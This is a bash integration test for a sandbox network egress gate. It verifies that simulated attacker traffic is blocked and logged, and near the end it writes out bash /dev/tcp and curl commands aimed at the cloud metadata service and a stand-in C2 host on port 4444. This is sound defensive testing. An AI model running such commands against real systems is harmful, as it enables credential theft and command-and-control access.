#!/bin/bash
# The egress gate against a real sandbox in the test world. As an attacker: cloud metadata (IPv4,
# IPv6, v4-mapped, Alibaba), the C2 over TCP and UDP, ICMP, raw and packet sockets, DNS
# exfiltration (through the gate's resolver, straight to the authority, encoded subdomains,
# subdomains of an allowed name), the gate's and the host's own addresses, the registry on an
# unlisted port. Twice: from inside, as a tool that may reach the registry (each attempt is
# refused by the kernel hook with EPERM, or passes it and is dropped and logged at the gate), and
# as a process that escaped the sandbox's cgroup and privileges into its network namespace as
# root (every attempt is dropped at the gate and on NFLOG with the sandbox's prefix). Not one
# packet arrives in the world either time; no exfil query reaches the authority. Then the
# allowlisted registry, by name through the DNS gate, works.
. "$(dirname "$0")/../lib.sh"
fb_setup

world_up
ok "the test world is up"
detectors_record_only
start_daemon --config "$FB_CONF"
create_sandbox eg1 "$FB_ROOT/tests/policies/egress.json"
copy_in eg1 "$FB_ROOT/tests/attacks/egress.py"
copy_in eg1 "$FB_ROOT/tests/attacks/reach.py"
ip netns list | grep -q '^firebreak-gate' || fail "no gate netns"
link=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['link'])" \
	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")
gate4=$(python3 -c "k=$link; b=(64*k)&0xffff; print('10.199.%d.%d' % ((b>>8)&255, (b&0xc0)+1))")
host4=$(ip -4 -o addr show scope global | awk '{print $4}' | cut -d/ -f1 | head -1)
[ -n "$host4" ] || host4=127.0.0.1
grep -q "^nameserver $gate4$" "/proc/$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['init_pid'])" \
	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")/root/etc/resolv.conf" || fail "resolv.conf does not name the gate"
ok "the sandbox's resolv.conf points at the gate ($gate4)"

# contacts SERVICE: the world's own record of who reached it (its listeners' contact logs).
contacts() { bash "$WORLDSH" contacts "$WORLD" "$1"; }

# world_marker NAME: ends a "nothing arrived" window with something that must arrive: the tool's
# allowed registry fetch, by name. The world's capture and its registry's contact log must both
# have it, so an empty capture or log proves something (they were live past the attack).
world_marker() {
	local before n
	before=$(contacts registry | wc -l)
	"$FB" exec eg1 --tool attack -- python3 /workspace/reach.py tcp registry.test 80 >"$T/$1.marker" ||
		fail "$1: the marker fetch did not run"
	grep -q '"ok": true' "$T/$1.marker" || fail "$1: the allowed marker fetch failed: $(cat "$T/$1.marker")"
	for _ in $(seq 50); do
		n=$(contacts registry | wc -l)
		[ "$n" -gt "$before" ] && return 0
		sleep 0.1
	done
	fail "$1: the registry never recorded the marker fetch"
}

# window_start NAME: starts the capture NAME and notes where the world's recorder is (it sees
# every link of the world, not only the gate's).
window_start() {
	bash "$WORLDSH" capture-start "$WORLD" "$1" || fail "capture-start" # returns once listening
	bash "$WORLDSH" arrivals "$WORLD" | wc -l >"$T/$1.recorded" || fail "arrivals"
}
# arrived_since NAME: what the recorder saw arrive since window_start NAME.
arrived_since() { bash "$WORLDSH" arrivals "$WORLD" | tail -n +$(($(cat "$T/$1.recorded") + 1)); }
recorded_marker() { arrived_since "$1" | grep -qE ' 198\.51\.100\.7\.80$'; }

# nothing_arrived NAME: the capture NAME (stopped) and the world's recorder saw only the marker
# (the registry and the authority the DNS gate asked), and no service of the world recorded a
# contact from the gate.
nothing_arrived() {
	bash "$WORLDSH" capture-dests "$WORLD" "$1" >"$T/$1.dests" || fail "capture-dests $1"
	grep -qE ' 198\.51\.100\.7\.80$' "$T/$1.dests" || fail "$1: the capture missed the marker: $(cat "$T/$1.dests")"
	grep -vE ' (198\.51\.100\.7\.80|198\.51\.100\.53\.53)$' "$T/$1.dests" >"$T/$1.other" &&
		fail "$1: packets arrived in the world: $(cat "$T/$1.other")"
	wait_for 5 recorded_marker "$1" || fail "$1: the world's recorder missed the marker"
	arrived_since "$1" | grep -vE ' (198\.51\.100\.7\.80|198\.51\.100\.53\.53)$' >"$T/$1.rec-other" &&
		fail "$1: the world's recorder saw packets arrive: $(head -n 5 "$T/$1.rec-other")"
	[ -z "$(contacts metadata; contacts c2)" ] ||
		fail "$1: the world's metadata or c2 recorded a contact: $(contacts metadata; contacts c2)"
	ok "$1: nothing but the marker arrived in the world (capture, recorder and the services' own records)"
}

# attack MODE NAME: runs egress.py MODE with packets counted in the world; leaves $T/NAME.jsonl
# (attempts) and $T/NAME.nflog.jsonl (the monitor's net.denied events since the attack began,
# one line per destination: what it read from NFLOG in the gate), and checks: every attempt
# failed, nothing arrived in the world.
attack() {
	local mode=$1 name=$2 since
	since=$(date +%s%N)
	window_start "$name"
	if [ "$mode" = deny ]; then
		"$FB" exec eg1 --tool attack -- python3 /workspace/egress.py deny "$host4" "$gate4" \
			>"$T/$name.jsonl" || fail "the attack script failed to run"
	else
		nsenter --net="/proc/$init/ns/net" python3 "$FB_ROOT/tests/attacks/egress.py" escaped \
			"$host4" "$gate4" >"$T/$name.jsonl" || fail "the escaped attack failed to run"
	fi
	world_marker "$name"
	bash "$WORLDSH" capture-stop "$WORLD" "$name" >/dev/null || fail "capture-stop"
	nflog_marker eg1 # every denied packet of the attack is in a stored net.denied by then
	"$FB" timeline eg1 --json | python3 -c '
import json, sys
protos = {"tcp": 6, "udp": 17, "icmp": 1, "icmpv6": 58}
for e in map(json.loads, sys.stdin):
    if e["kind"] == "net.denied" and e["ts"] >= int(sys.argv[1]):
        f = e["fields"]
        print(json.dumps({"prefix": "firebreak:" + e["sandbox"], "dst": f["dst"],
                          "proto": protos.get(f["proto"], f["proto"]),
                          "dport": f["port"] if f["proto"] in ("tcp", "udp") else None,
                          "packets": f["packets"]}))' "$since" >"$T/$name.nflog.jsonl" ||
		fail "read the monitor's net.denied events"
	python3 - "$T/$name.jsonl" <<'PY' || fail "$name: an attempt got through"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
for r in rows:
    print("   %-26s %s" % (r["what"], r["error"]))
assert len(rows) >= 16, "only %d attempts ran" % len(rows)
through = [r for r in rows if r["ok"]]
if through:
    sys.exit("got through: %s" % through)
PY
	ok "$name: every attempt failed"
	nothing_arrived "$name"
}
init=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['init_pid'])" \
	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")

attack deny inside
python3 - "$T/inside.jsonl" "$T/inside.nflog.jsonl" <<'PY' || fail "inside: a denial is neither EPERM nor on NFLOG"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
logged = {r["dst"] for r in map(json.loads, open(sys.argv[2])) if r["prefix"].strip() == "firebreak:eg1"}
eperm = [r["what"] for r in rows if "Errno 1]" in (r["error"] or "")]
# The tool may use TCP 80/443 (its registry rule), so those attempts pass the hook: the gate
# must have dropped and logged them.
for what, dst in [("metadata-v4", "169.254.169.254"), ("c2-tcp-443", "203.0.113.66")]:
    r = next(x for x in rows if x["what"] == what)
    if "Errno 1]" not in r["error"] and dst not in logged:
        sys.exit("%s: not refused by the hook and not logged at the gate" % what)
print("   %d refused by the kernel hook (EPERM), %d destinations logged at the gate"
      % (len(eperm), len(logged)))
PY
ok "inside: each attempt was refused by the kernel hook or dropped and logged at the gate"

attack escaped escaped
python3 - "$T/escaped.nflog.jsonl" "$gate4" "$host4" <<'PY' || fail "escaped: denials missing from NFLOG"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
gate4, host4 = sys.argv[2], sys.argv[3]
seen = {(r["dst"], r["dport"]) for r in rows if r["prefix"].strip() == "firebreak:eg1"}
icmp = [r for r in rows if r["proto"] == 1 and r["dst"] == "203.0.113.66"]
want = [("169.254.169.254", 80), ("100.100.100.200", 80), ("203.0.113.66", 443),
        ("203.0.113.66", 4444), ("203.0.113.66", 53), ("198.51.100.7", 8080),
        (gate4, 22), (host4, 22), ("198.51.100.53", 53), ("fd00:ec2::254", 80)]
missing = [w for w in want if w not in seen]
if missing or not icmp:
    sys.exit("missing from NFLOG: %s; icmp: %d" % (missing, len(icmp)))
print("   %d denied packets logged, %d net.denied events" % (sum(r["packets"] for r in rows), len(rows)))
PY
ok "escaped: each denied destination (TCP, UDP, ICMP, IPv4 and IPv6) is a net.denied event of the sandbox"
"$FB" status --json | python3 -c "
import json, sys
n = json.load(sys.stdin)['nflog']
assert n['unattributed'] == 0 and n['unparsed'] == 0 and n['kernel_drops'] == 0, n
" || fail "NFLOG packets the monitor could not attribute, parse or read"
ok "every packet on NFLOG was attributed to the sandbox by its prefix"

# The attacker's usual tools, escaped the same way: bash's /dev/tcp and curl.
window_start tools
nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/169.254.169.254/80' 2>/dev/null \
	&& fail "bash /dev/tcp reached the metadata service"
nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/203.0.113.66/4444' 2>/dev/null \
	&& fail "bash /dev/tcp reached the C2"
nsenter --net="/proc/$init/ns/net" curl -s -m 3 http://169.254.169.254/latest/meta-data/ >/dev/null \
	&& fail "curl reached the metadata service"
nsenter --net="/proc/$init/ns/net" curl -s -m 3 -g 'http://[fd00:ec2::254]/latest/meta-data/' >/dev/null \
	&& fail "curl reached the IPv6 metadata service"
world_marker tools
bash "$WORLDSH" capture-stop "$WORLD" tools >/dev/null || fail "capture-stop tools"
nothing_arrived tools
ok "bash /dev/tcp and curl got nothing into the world"
bash "$WORLDSH" contacts "$WORLD" dns >"$T/dns-contacts.log"
grep -qi "exfil" "$T/dns-contacts.log" && fail "an exfil query reached the authority: $(grep -i exfil "$T/dns-contacts.log" | head -2)"
ok "no exfil.test query (plain or encoded) reached the DNS authority"

# The allowlist: the registry by name, through the DNS gate.
bash "$WORLDSH" capture-start "$WORLD" allow || fail "capture-start"
"$FB" exec eg1 --tool attack -- python3 /workspace/egress.py allow >"$T/allow.jsonl" || fail "allow run"
world_marker allow
arrived=$(bash "$WORLDSH" capture-stop "$WORLD" allow)
grep -q '"what": "registry-by-name", "ok": true' "$T/allow.jsonl" || fail "registry by name: $(cat "$T/allow.jsonl")"
ok "the allowlisted registry works by name ($arrived packets)"
bash "$WORLDSH" contacts "$WORLD" dns | grep -q "registry.test" || fail "the gate did not ask the authority"
ok "the gate's DNS asked the authority for exactly registry.test"

# A sandbox whose link was half taken down (a crash between the two nft steps): destroy still
# removes its table from the gate, while another sandbox keeps the gate up.
create_sandbox eg2 "$FB_ROOT/tests/policies/egress.json"
link2=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['link'])" \
	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg2/state.json")
ip netns exec firebreak-gate nft list table inet "firebreak_gate_$link2" >/dev/null ||
	fail "sandbox eg2 has no table at the gate"
ip netns exec firebreak-gate nft delete element inet firebreak_gate links "{ \"fb-s$link2\" }" ||
	fail "could not take eg2's link out of the gate's set"
check "destroy a half-detached sandbox" "$FB" destroy eg2
ip netns exec firebreak-gate nft list table inet "firebreak_gate_$link2" >/dev/null 2>&1 &&
	fail "the half-detached sandbox's table outlived it at the gate"
ok "destroy removes a half-detached sandbox's table from the gate"

check "destroy" "$FB" destroy eg1
ip netns list | grep -q '^firebreak-gate' && fail "the gate outlived its last sandbox"
pgrep -f "dnsmasq.*$FIREBREAK_RUNTIME_DIR" >/dev/null && fail "the DNS gate outlived its sandbox"
ok "destroy took the gate, its links and the DNS gate down"
assert_no_leftovers "after the egress tests"
stop_daemon
